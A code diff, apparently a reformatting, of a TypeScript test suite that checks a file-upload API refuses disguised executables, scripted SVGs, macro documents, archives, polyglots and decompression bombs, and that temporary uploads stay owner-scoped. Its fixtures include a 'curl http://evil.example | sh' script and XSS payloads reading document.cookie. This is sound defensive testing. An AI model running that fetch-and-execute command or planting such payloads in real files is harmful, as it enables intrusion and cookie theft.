@@ -61,25 +61,113 @@ afterAll(async () => {
 });
 
 describe("refused by content", () => {
-  const svgWithScript = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>');
+  const svgWithScript = Buffer.from(
+    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
+  );
   const cases: [string, () => Promise<Buffer> | Buffer, string, string | undefined, number, string][] = [
     ["a Windows program renamed to .jpg", windowsExecutable, "photo.jpg", "image/jpeg", 415, "executable_not_allowed"],
     ["a Linux program renamed to .pdf", elfExecutable, "price.pdf", "application/pdf", 415, "executable_not_allowed"],
-    ["a shell script renamed to .png", () => Buffer.from("#!/bin/sh\ncurl http://evil.example | sh\n"), "logo.png", "image/png", 415, "executable_not_allowed"],
+    [
+      "a shell script renamed to .png",
+      () => Buffer.from("#!/bin/sh\ncurl http://evil.example | sh\n"),
+      "logo.png",
+      "image/png",
+      415,
+      "executable_not_allowed",
+    ],
     ["an SVG with a script", () => svgWithScript, "logo.svg", "image/svg+xml", 415, "svg_not_allowed"],
     ["an SVG renamed to .png", () => svgWithScript, "logo.png", "image/png", 415, "svg_not_allowed"],
-    ["an HTML page renamed to .jpg", () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/profile')</script></body></html>"), "cat.jpg", "image/jpeg", 415, "html_not_allowed"],
-    ["a zip archive renamed to .docx", () => zipArchive({ "readme.txt": "hi", "setup.exe": "MZ" }), "contract.docx", undefined, 415, "archive_not_allowed"],
-    ["a zip that only looks like a Word file", () => zipArchive({ "word/document.xml": "<w/>" }), "contract.docx", undefined, 415, "archive_not_allowed"],
-    ["a Word document with macros (.docm renamed)", () => zipArchive({ "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>', "word/document.xml": "<w/>", "word/vbaProject.bin": "VBA" }), "contract.docx", undefined, 415, "macros_not_allowed"],
-    ["a package with macros and no content types", () => zipArchive({ "word/document.xml": "<w/>", "word/vbaProject.bin": "VBA" }), "contract.docx", undefined, 415, "macros_not_allowed"],
-    ["a gzip archive", () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c, 0x4a, 6, 0]), "data.pdf", undefined, 415, "archive_not_allowed"],
-    ["a TIFF image", () => sharp({ create: { width: 8, height: 8, channels: 3, background: "#000" } }).tiff().toBuffer(), "scan.tiff", "image/tiff", 415, "image_format_not_allowed"],
+    [
+      "an HTML page renamed to .jpg",
+      () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/profile')</script></body></html>"),
+      "cat.jpg",
+      "image/jpeg",
+      415,
+      "html_not_allowed",
+    ],
+    [
+      "a zip archive renamed to .docx",
+      () => zipArchive({ "readme.txt": "hi", "setup.exe": "MZ" }),
+      "contract.docx",
+      undefined,
+      415,
+      "archive_not_allowed",
+    ],
+    [
+      "a zip that only looks like a Word file",
+      () => zipArchive({ "word/document.xml": "<w/>" }),
+      "contract.docx",
+      undefined,
+      415,
+      "archive_not_allowed",
+    ],
+    [
+      "a Word document with macros (.docm renamed)",
+      () =>
+        zipArchive({
+          "[Content_Types].xml":
+            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+          "word/document.xml": "<w/>",
+          "word/vbaProject.bin": "VBA",
+        }),
+      "contract.docx",
+      undefined,
+      415,
+      "macros_not_allowed",
+    ],
+    [
+      "a package with macros and no content types",
+      () => zipArchive({ "word/document.xml": "<w/>", "word/vbaProject.bin": "VBA" }),
+      "contract.docx",
+      undefined,
+      415,
+      "macros_not_allowed",
+    ],
+    [
+      "a gzip archive",
+      () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c, 0x4a, 6, 0]),
+      "data.pdf",
+      undefined,
+      415,
+      "archive_not_allowed",
+    ],
+    [
+      "a TIFF image",
+      () =>
+        sharp({ create: { width: 8, height: 8, channels: 3, background: "#000" } })
+          .tiff()
+          .toBuffer(),
+      "scan.tiff",
+      "image/tiff",
+      415,
+      "image_format_not_allowed",
+    ],
     ["plain text", () => Buffer.from("just some words"), "notes.txt", "text/plain", 415, "file_type_not_allowed"],
     ["a truncated JPEG", async () => (await jpegPhoto(400, 300)).subarray(0, 600), "cut.jpg", "image/jpeg", 422, "image_corrupt"],
-    ["a JPEG with garbage after its header", async () => Buffer.concat([(await jpegPhoto()).subarray(0, 20), Buffer.alloc(2000, 0x41)]), "bad.jpg", "image/jpeg", 422, "image_corrupt"],
-    ["a GIF/JavaScript polyglot", () => Buffer.from("GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//"), "x.gif", "image/gif", 422, "image_corrupt"],
-    ["a PDF/HTML polyglot", () => Buffer.from("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"), "doc.pdf", "application/pdf", 415, "polyglot_not_allowed"],
+    [
+      "a JPEG with garbage after its header",
+      async () => Buffer.concat([(await jpegPhoto()).subarray(0, 20), Buffer.alloc(2000, 0x41)]),
+      "bad.jpg",
+      "image/jpeg",
+      422,
+      "image_corrupt",
+    ],
+    [
+      "a GIF/JavaScript polyglot",
+      () => Buffer.from("GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//"),
+      "x.gif",
+      "image/gif",
+      422,
+      "image_corrupt",
+    ],
+    [
+      "a PDF/HTML polyglot",
+      () => Buffer.from("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"),
+      "doc.pdf",
+      "application/pdf",
+      415,
+      "polyglot_not_allowed",
+    ],
     ["an empty file", () => Buffer.alloc(0), "empty.jpg", "image/jpeg", 400, "file_empty"],
   ];
   test.each(cases)("%s", async (_name, bytes, name, type, status, code) => {
@@ -121,7 +209,9 @@ describe("refused by content", () => {
   });
 
   test("an image of more than 40 megapixels is refused (decompression bomb)", async () => {
-    const huge = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: "#fff" } }).png({ compressionLevel: 9 }).toBuffer();
+    const huge = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: "#fff" } })
+      .png({ compressionLevel: 9 })
+      .toBuffer();
     const reply = await upload(huge, "huge.png");
     expect(reply.status).toBe(422);
     expect(reply.body.error.code).toBe("image_too_large");
@@ -133,7 +223,14 @@ describe("refused by content", () => {
     const none = await call(api, "POST", "/api/files/common", form, user.token);
     expect(none.status).toBe(400);
     expect(none.body.error.code).toBe("file_required");
-    const broken = await call(api, "POST", "/api/files/common", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\nabc", user.token, { "content-type": "multipart/form-data; boundary=x" });
+    const broken = await call(
+      api,
+      "POST",
+      "/api/files/common",
+      '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nabc',
+      user.token,
+      { "content-type": "multipart/form-data; boundary=x" },
+    );
     expect(broken.status).toBeLessThan(500);
     expect(broken.status).toBeGreaterThanOrEqual(400);
   });
@@ -145,7 +242,14 @@ describe("accepted", () => {
     const inputs: [string, Buffer][] = [
       ["photo.jpg", await jpegPhoto(640, 480)],
       ["picture.png", await pngPicture(300, 200)],
-      ["picture.webp", await base.clone().webp().withExif({ IFD0: { Artist: "secret" } }).toBuffer()],
+      [
+        "picture.webp",
+        await base
+          .clone()
+          .webp()
+          .withExif({ IFD0: { Artist: "secret" } })
+          .toBuffer(),
+      ],
       ["animation.gif", await base.clone().gif().toBuffer()],
       ["picture.avif", await base.clone().avif({ quality: 50 }).toBuffer()],
     ];
@@ -199,22 +303,44 @@ describe("temporary uploads", () => {
     expect(new Date(mine.body.data.expiresAt).getTime()).toBeGreaterThan(Date.now() + 23 * 3600 * 1000);
     const list = await call(api, "GET", "/api/files/common", undefined, owner.token);
     expect(list.body.data.map((f: { id: number }) => f.id)).toContain(mine.body.data.id);
-    expect((await call(api, "GET", "/api/files/common", undefined, user.token)).body.data.map((f: { id: number }) => f.id)).not.toContain(mine.body.data.id);
+    expect((await call(api, "GET", "/api/files/common", undefined, user.token)).body.data.map((f: { id: number }) => f.id)).not.toContain(
+      mine.body.data.id,
+    );
 
     const foreign = await upload(pdfDocument(), "foreign.pdf", undefined, user.token);
-    const stolen = await call(api, "POST", `/api/profile/company/products/${productId}/files`, { fileId: foreign.body.data.id }, owner.token);
+    const stolen = await call(
+      api,
+      "POST",
+      `/api/profile/company/products/${productId}/files`,
+      { fileId: foreign.body.data.id },
+      owner.token,
+    );
     expect(stolen.status).toBe(404);
     expect(stolen.body.error.code).toBe("file_not_found");
 
-    const attached = await call(api, "POST", `/api/profile/company/products/${productId}/files`, { fileId: mine.body.data.id, title: { en: "Spec" } }, owner.token);
+    const attached = await call(
+      api,
+      "POST",
+      `/api/profile/company/products/${productId}/files`,
+      { fileId: mine.body.data.id, title: { en: "Spec" } },
+      owner.token,
+    );
     expect(attached.status).toBe(201);
     expect(attached.body.data).toMatchObject({ id: mine.body.data.id, kind: "document", title: { en: "Spec" }, expiresAt: null });
     const twice = await call(api, "POST", "/api/profile/company/files", { fileId: mine.body.data.id }, owner.token);
     expect(twice.status).toBe(404);
-    const wrongKind = await call(api, "POST", `/api/profile/company/products/${productId}/files`, { fileId: (await upload(pdfDocument(), "d.pdf", undefined, owner.token)).body.data.id, kind: "image" }, owner.token);
+    const wrongKind = await call(
+      api,
+      "POST",
+      `/api/profile/company/products/${productId}/files`,
+      { fileId: (await upload(pdfDocument(), "d.pdf", undefined, owner.token)).body.data.id, kind: "image" },
+      owner.token,
+    );
     expect(wrongKind.status).toBe(415);
     expect(wrongKind.body.error.code).toBe("file_kind_mismatch");
-    expect((await call(api, "GET", "/api/files/common", undefined, owner.token)).body.data.map((f: { id: number }) => f.id)).not.toContain(mine.body.data.id);
+    expect((await call(api, "GET", "/api/files/common", undefined, owner.token)).body.data.map((f: { id: number }) => f.id)).not.toContain(
+      mine.body.data.id,
+    );
 
     expect((await call(api, "DELETE", `/api/files/common/${foreign.body.data.id}`, undefined, owner.token)).status).toBe(404);
     expect((await call(api, "DELETE", `/api/files/common/${mine.body.data.id}`, undefined, owner.token)).status).toBe(404);
@@ -224,7 +350,10 @@ describe("temporary uploads", () => {
 
   test("an expired upload cannot be attached and is purged with its bytes; attached files are never purged", async () => {
     const temp = await upload(await jpegPhoto(), "old.jpg", undefined, owner.token);
-    await api.db.update(files).set({ expiresAt: new Date(Date.now() - 1000) }).where(eq(files.id, temp.body.data.id));
+    await api.db
+      .update(files)
+      .set({ expiresAt: new Date(Date.now() - 1000) })
+      .where(eq(files.id, temp.body.data.id));
     const late = await call(api, "PUT", "/api/profile/company/logo", { fileId: temp.body.data.id }, owner.token);
     expect(late.status).toBe(404);
     expect(late.body.error.code).toBe("file_not_found");
@@ -233,6 +362,8 @@ describe("temporary uploads", () => {
     expect(await api.db.select().from(files).where(eq(files.id, temp.body.data.id))).toEqual([]);
     expect(await api.storage.get(temp.body.data.url.slice("/media/".length))).toBeNull();
     expect(await api.storage.get(temp.body.data.thumbUrl.slice("/media/".length))).toBeNull();
-    expect((await call(api, "GET", `/api/profile/company/products/${productId}/files`, undefined, owner.token)).body.data).toEqual(attached.body.data);
+    expect((await call(api, "GET", `/api/profile/company/products/${productId}/files`, undefined, owner.token)).body.data).toEqual(
+      attached.body.data,
+    );
   });
 });
